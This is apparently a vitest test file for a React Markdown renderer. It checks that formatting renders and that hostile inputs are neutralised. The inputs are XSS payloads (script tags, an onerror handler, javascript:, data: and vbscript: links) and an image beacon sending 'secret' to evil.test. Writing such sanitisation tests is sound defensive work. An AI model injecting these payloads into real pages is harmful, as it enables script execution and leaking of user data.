import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { Markdown } from "./markdown";

const html = (text: string) => renderToStaticMarkup(createElement(Markdown, { text }));

test("headings, lists, tables and code become elements", () => {
  const page = html("# Title\n\n- one\n- **two**\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n`code`\n");
  for (const part of ["<h2", "<li>", "<strong", "<td", "<code"]) expect(page).toContain(part);
});

test.each([
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "[x](javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:alert(1))",
  "![beacon](https://evil.test/?q=secret)",
  '<a href="javascript:alert(1)">x</a>',
])("%s does nothing and fetches nothing", (text) => {
  const page = html(text);
  expect(page).not.toMatch(/<(script|img|iframe|a)\b/);
  expect(page).not.toMatch(/(href|src|onerror)="/);
});

test("a link to the web opens apart and tells the other side nothing", () => {
  expect(html("[x](https://example.test/)")).toContain('rel="noopener noreferrer nofollow"');
});
